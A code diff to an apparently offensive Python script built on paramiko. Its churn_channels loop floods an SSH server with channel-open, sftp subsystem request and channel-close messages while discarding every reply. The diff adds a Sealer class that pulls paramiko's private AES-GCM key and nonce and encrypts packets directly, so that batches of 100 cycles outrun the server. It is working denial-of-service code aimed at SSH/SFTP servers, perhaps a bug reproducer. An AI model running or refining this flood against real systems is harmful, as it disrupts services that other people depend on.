@@ -145,12 +145,39 @@ def churn_channels(transport: paramiko.Transport) -> None:
     private: Any = transport
     private.packetizer.read_message = partial(throw_away, transport.sock)
     send_raw(transport, ssh_message(_GLOBAL_REQUEST, b"?", True))  # the answer ends the last read
+    sealer = Sealer(transport)
+    sock: Any = transport.sock
+    sock.settimeout(None)
     print("ready", flush=True)
     while True:
-        number += 1
-        send_raw(transport, ssh_message(_CHANNEL_OPEN, b"session", 0, 1 << 20, 1 << 15))
-        send_raw(transport, ssh_message(_CHANNEL_REQUEST, number, b"subsystem", False, b"sftp"))
-        send_raw(transport, ssh_message(_CHANNEL_CLOSE, number))
+        batch = b""
+        for _ in range(100):
+            number += 1
+            batch += sealer.seal(_CHANNEL_OPEN, b"session", 0, 1 << 20, 1 << 15)
+            batch += sealer.seal(_CHANNEL_REQUEST, number, b"subsystem", False, b"sftp")
+            batch += sealer.seal(_CHANNEL_CLOSE, number)
+        sock.sendall(batch)
+
+
+class Sealer:
+    """Seals messages with AES-GCM in place of paramiko, which takes longer than the server."""
+
+    def __init__(self, transport: paramiko.Transport) -> None:
+        packetizer: Any = transport.packetizer
+        self._key = packetizer._Packetizer__block_engine_out
+        nonce = packetizer._Packetizer__iv_out
+        self._fixed, self._counter = nonce[:4], int.from_bytes(nonce[4:], "big")
+
+    def seal(self, kind: int, *parts: int | bytes) -> bytes:
+        """Return a packet (RFC 5647)."""
+        payload = ssh_message(kind, *parts).asbytes()
+        padding = 4 + -(len(payload) + 5) % 16
+        length = pack(">I", 1 + len(payload) + padding)
+        nonce = self._fixed + self._counter.to_bytes(8, "big")
+        self._counter += 1
+        packet = bytes([padding]) + payload + bytes(padding)
+        sealed: bytes = self._key.encrypt(nonce, packet, length)
+        return length + sealed
 
 
 def throw_away(sock: Any) -> None:
